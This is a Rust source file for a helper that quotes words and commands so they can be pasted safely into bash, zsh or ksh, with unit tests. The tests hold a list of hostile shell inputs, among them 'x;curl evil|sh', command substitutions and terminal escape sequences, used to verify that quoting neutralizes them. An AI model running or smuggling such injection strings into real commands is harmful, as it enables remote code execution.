//! Quotes words and commands for a shell, for users to paste.

use std::borrow::Cow;
use std::fmt::Write as _;

use hss_client::printable;

/// Quotes a word so that a shell reads it unchanged, and a terminal displays it safely.
///
/// Hidden characters are written as `$'\342\200\215'`. bash, ksh, zsh and POSIX since 2024 support that.
pub(crate) fn quoted(word: &str) -> Cow<'_, str> {
    let is_plain = |character: char| character.is_ascii_alphanumeric() || "-_./:@%+,".contains(character);
    if !word.is_empty() && word.chars().all(is_plain) {
        return Cow::Borrowed(word);
    }
    if matches!(printable(word), Cow::Borrowed(_)) {
        return Cow::Owned(format!("'{}'", word.replace('\'', r"'\''")));
    }
    let mut quoted = "$'".to_owned();
    let mut bytes = [0; 4];
    for character in word.chars() {
        let text = &*character.encode_utf8(&mut bytes);
        match character {
            '\n' => quoted.push_str(r"\n"),
            // Some shells expand history in the text after an escaped quotation mark.
            _ if matches!(printable(text), Cow::Borrowed(_)) && !"'\\!".contains(character) => quoted.push(character),
            _ => text.bytes().for_each(|byte| {
                // Writing to a String cannot fail.
                let _ = write!(quoted, r"\{byte:03o}");
            }),
        }
    }
    quoted.push('\'');
    Cow::Owned(quoted)
}

/// Returns a command with one argument, which may come from a server.
pub(crate) fn command(words: &str, argument: &str) -> String {
    // An argument that begins with a hyphen must not be parsed as an option.
    let separator = if argument.starts_with('-') { "-- " } else { "" };
    format!("{words} {separator}{}", quoted(argument))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Words that a shell would interpret.
    const HOSTILE: [&str; 14] = [
        "x;curl evil|sh",
        "$(touch x)",
        "`touch x`",
        "it's",
        "a b",
        "",
        "~",
        "=ls",
        "!!",
        "{a,b}*?[c]",
        "a\\b",
        "a\nb\tc\rd'\\!!",
        "\u{1b}[2J\u{202e}\u{200d}生产",
        "$'\\x41'",
    ];

    #[test]
    fn quotes_words_only_if_needed() {
        for (word, expected) in [
            ("2b31ed520xxxxxxebedb6e57xxxxxxxx", "2b31ed520xxxxxxebedb6e57xxxxxxxx"),
            ("x;curl evil|sh", "'x;curl evil|sh'"),
            ("it's", r"'it'\''s'"),
            ("", "''"),
            ("生产", "'生产'"),
            ("a\n\u{1b}[2J'\\\u{200d}生", r"$'a\n\033[2J\047\134\342\200\215生'"),
        ] {
            assert_eq!(quoted(word), expected, "{word:?}");
        }
        for word in HOSTILE {
            assert_eq!(printable(&quoted(word)), quoted(word), "{word:?}");
        }
    }

    #[test]
    fn separates_arguments_that_look_like_options() {
        assert_eq!(command("hss scan wait", "t-1"), "hss scan wait t-1");
        assert_eq!(command("hss scan wait", "--html=x y"), "hss scan wait -- '--html=x y'");
    }

    #[cfg(unix)]
    #[test]
    fn shells_read_quoted_words_unchanged() {
        use std::process::Command;

        let shells: Vec<_> = ["bash", "zsh", "ksh"]
            .into_iter()
            .filter(|shell| Command::new(shell).args(["-c", ":"]).status().is_ok_and(|status| status.success()))
            .collect();
        for shell in &shells {
            for word in HOSTILE {
                let script = format!("printf %s {}", quoted(word));
                let output = Command::new(shell).args(["-c", &script]).output().unwrap();
                assert_eq!(String::from_utf8_lossy(&output.stdout), word, "{shell}: {script}");
            }
        }
    }
}
